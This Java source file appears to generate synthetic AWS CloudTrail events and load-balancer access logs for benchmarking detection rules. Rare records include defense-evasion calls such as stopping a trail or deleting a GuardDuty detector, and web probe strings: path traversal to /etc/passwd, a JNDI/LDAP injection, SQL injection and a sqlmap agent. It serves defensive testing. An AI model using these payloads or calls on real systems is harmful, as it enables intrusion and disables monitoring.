package io.flowsight.benchmarks;

import io.flowsight.schemas.AlbLogEntry;
import io.flowsight.schemas.CloudTrailEvent;
import io.flowsight.schemas.SessionAttributes;
import io.flowsight.schemas.SessionContext;
import io.flowsight.schemas.SessionIssuer;
import io.flowsight.schemas.UserIdentity;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Generated CloudTrail management events and ALB access-log entries for the rules benchmark, spread evenly over one
 * event-time hour with a fixed seed. Mostly what an account's trail and a public load balancer carry all day —
 * describe/list/get calls by roles and services, ordinary page loads — with the rare calls and requests rules exist
 * for (a trail stopped, a security group opened, a traversal or JNDI probe) at about one in a thousand, so matching
 * cost is dominated, as in production, by the records no rule matches.
 */
final class AuditWorkload {
    /** service:call, most frequent first; weights fall off as 1/rank (Zipf), as API call mixes do. */
    private static final List<String> ROUTINE_CALLS = List.of("sts.amazonaws.com:AssumeRole",
            "ec2.amazonaws.com:DescribeInstances", "s3.amazonaws.com:GetBucketAcl", "kms.amazonaws.com:Decrypt",
            "logs.amazonaws.com:CreateLogStream", "ec2.amazonaws.com:DescribeSecurityGroups",
            "iam.amazonaws.com:GetRole", "s3.amazonaws.com:ListBuckets", "lambda.amazonaws.com:ListFunctions20150331",
            "cloudwatch.amazonaws.com:DescribeAlarms", "ssm.amazonaws.com:GetParameter",
            "ec2.amazonaws.com:DescribeVolumes", "sts.amazonaws.com:GetCallerIdentity",
            "autoscaling.amazonaws.com:DescribeAutoScalingGroups", "rds.amazonaws.com:DescribeDBInstances",
            "elasticloadbalancing.amazonaws.com:DescribeTargetHealth", "ec2.amazonaws.com:CreateTags",
            "secretsmanager.amazonaws.com:GetSecretValue", "iam.amazonaws.com:ListPolicies",
            "ecr.amazonaws.com:GetAuthorizationToken", "dynamodb.amazonaws.com:DescribeTable",
            "signin.amazonaws.com:ConsoleLogin", "ec2.amazonaws.com:RunInstances",
            "lambda.amazonaws.com:UpdateFunctionCode20150331v2", "s3.amazonaws.com:PutBucketTagging");
    /** Calls the pack has rules for, each with the request that makes it sensitive. */
    private static final List<String[]> RARE_CALLS = List.of(
            new String[] {"cloudtrail.amazonaws.com", "StopLogging", "{\"name\":\"management-trail\"}"},
            new String[] {"ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", "{\"groupId\":\"sg-0a1b2c3d\","
                    + "\"ipPermissions\":{\"items\":[{\"ipProtocol\":\"tcp\",\"fromPort\":22,\"toPort\":22,"
                    + "\"ipRanges\":{\"items\":[{\"cidrIp\":\"0.0.0.0/0\"}]}}]}}"},
            new String[] {"iam.amazonaws.com", "CreateAccessKey", "{\"userName\":\"backup-admin\"}"},
            new String[] {"ec2.amazonaws.com", "DeleteFlowLogs", "{\"flowLogIds\":[\"fl-0123456789abcdef0\"]}"},
            new String[] {"guardduty.amazonaws.com", "DeleteDetector", "{\"detectorId\":\"12abc34d567e8fa901bc2d34e56789f0\"}"});
    private static final List<String> PAGES = List.of("/", "/products", "/products/42", "/cart", "/static/app.js",
            "/static/app.css", "/api/v1/items?page=2&sort=price", "/api/v1/session", "/search?q=red+shoes",
            "/images/banner.webp", "/checkout", "/account/orders");
    private static final List<String> PROBES = List.of("/../../etc/passwd", "/?q=${jndi:ldap://198.51.100.9/a}",
            "/products?id=1%27%20OR%201=1--", "/.env", "/wp-login.php");
    private static final List<String> BROWSERS = List.of(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
            "okhttp/4.12.0");
    private static final String ACCOUNT = "123456789012";

    private final int records;
    private final Instant start;
    private final SplittableRandom random = new SplittableRandom(20261206L);
    private final FlowWorkload.Zipf routineCalls = new FlowWorkload.Zipf(ROUTINE_CALLS.size());

    AuditWorkload(int records, Instant start) {
        this.records = records;
        this.start = start;
    }

    /** The {@code i}-th of the hour's CloudTrail events (call in order: the random stream is sequential). */
    CloudTrailEvent cloudTrail(int i) {
        Instant time = timeOf(i);
        boolean rare = random.nextInt(1000) == 0;
        String source;
        String call;
        String request;
        if (rare) {
            String[] sensitive = RARE_CALLS.get(random.nextInt(RARE_CALLS.size()));
            source = sensitive[0];
            call = sensitive[1];
            request = sensitive[2];
        } else {
            String routine = ROUTINE_CALLS.get(routineCalls.next(random));
            source = routine.substring(0, routine.indexOf(':'));
            call = routine.substring(routine.indexOf(':') + 1);
            request = "{\"maxResults\":" + (50 + random.nextInt(50)) + ",\"filterSet\":{\"items\":[{\"name\":"
                    + "\"tag:team\",\"valueSet\":{\"items\":[{\"value\":\"payments\"}]}}]}}";
        }
        int principal = random.nextInt(2000);
        boolean service = random.nextInt(10) < 3;
        String address = service ? source
                : "198.51." + (principal >> 8) + "." + (principal & 0xff);
        String role = "role/app-" + (principal % 400);
        return CloudTrailEvent.newBuilder().setEventversion("1.10")
                .setUseridentity(UserIdentity.newBuilder().setType("AssumedRole")
                        .setPrincipalid("AROA" + principal + ":session-" + i % 97)
                        .setArn("arn:aws:sts::" + ACCOUNT + ":assumed-role/" + role.substring(5) + "/session-" + i % 97)
                        .setAccountid(ACCOUNT).setAccesskeyid("ASIA" + Long.toHexString(random.nextLong()))
                        .setSessioncontext(SessionContext.newBuilder()
                                .setAttributes(SessionAttributes.newBuilder().setMfaauthenticated("false")
                                        .setCreationdate(time.minusSeconds(600).toString()).build())
                                .setSessionissuer(SessionIssuer.newBuilder().setType("Role")
                                        .setArn("arn:aws:iam::" + ACCOUNT + ":" + role).setUsername(role.substring(5))
                                        .setAccountid(ACCOUNT).build()).build())
                        .build())
                .setEventtime(time.toString()).setEventsource(source).setEventname(call)
                .setAwsregion("eu-west-1").setSourceipaddress(address)
                .setUseragent(service ? source : "aws-cli/2.22.4 md/Botocore#1.35.76 ua/2.0 os/linux")
                .setErrorcode(random.nextInt(100) == 0 ? "AccessDenied" : null)
                .setRequestparameters(request).setResponseelements(null)
                .setRequestid(Long.toHexString(random.nextLong())).setEventid("ev-" + i)
                .setEventtype("AwsApiCall").setReadonly(call.startsWith("Describe") || call.startsWith("Get")
                        || call.startsWith("List") ? "true" : "false")
                .setRecipientaccountid(ACCOUNT).setManagementevent(true).setEventcategory("Management")
                .setEventTime(time).build();
    }

    /** The {@code i}-th of the hour's ALB access-log entries. */
    AlbLogEntry alb(int i) {
        Instant time = timeOf(i);
        boolean probe = random.nextInt(1000) == 0;
        int client = random.nextInt(50_000);
        String url = "https://shop.example.com:443" + (probe ? PROBES.get(random.nextInt(PROBES.size()))
                : PAGES.get(random.nextInt(PAGES.size())));
        String agent = probe && random.nextBoolean() ? "sqlmap/1.8.11#stable (https://sqlmap.org)"
                : BROWSERS.get(random.nextInt(BROWSERS.size()));
        int status = probe ? 404 : random.nextInt(50) == 0 ? 302 : 200;
        return AlbLogEntry.newBuilder().setType("h2").setTime(time.toString())
                .setElb("app/shop-frontend/50dc6c495c0c9188")
                .setClientIp("203.0." + (client >> 8 & 0xff) + "." + (client & 0xff)).setClientPort(1024 + client)
                .setTargetIp("10.0.1." + (i % 8 + 10)).setTargetPort(8080)
                .setRequestProcessingTime(0.001).setTargetProcessingTime(0.012 + random.nextInt(40) / 1000.0)
                .setResponseProcessingTime(0.0).setElbStatusCode(status).setTargetStatusCode(String.valueOf(status))
                .setReceivedBytes(300L + random.nextInt(400)).setSentBytes(2000L + random.nextInt(30_000))
                .setRequestVerb(random.nextInt(10) == 0 ? "POST" : "GET").setRequestUrl(url)
                .setRequestProto("HTTP/2.0").setUserAgent(agent).setSslCipher("TLS_AES_128_GCM_SHA256")
                .setSslProtocol("TLSv1.3")
                .setTargetGroupArn("arn:aws:elasticloadbalancing:eu-west-1:" + ACCOUNT + ":targetgroup/shop/73e2d6bc24d8a067")
                .setTraceId("Root=1-" + Long.toHexString(time.getEpochSecond()) + "-" + Long.toHexString(random.nextLong()))
                .setDomainName("shop.example.com").setMatchedRulePriority("0")
                .setRequestCreationTime(time.toString()).setActionsExecuted("forward")
                .setEventTime(time).build();
    }

    private Instant timeOf(int i) {
        return start.plusNanos(Duration.ofHours(1).toNanos() / records * i);
    }
}
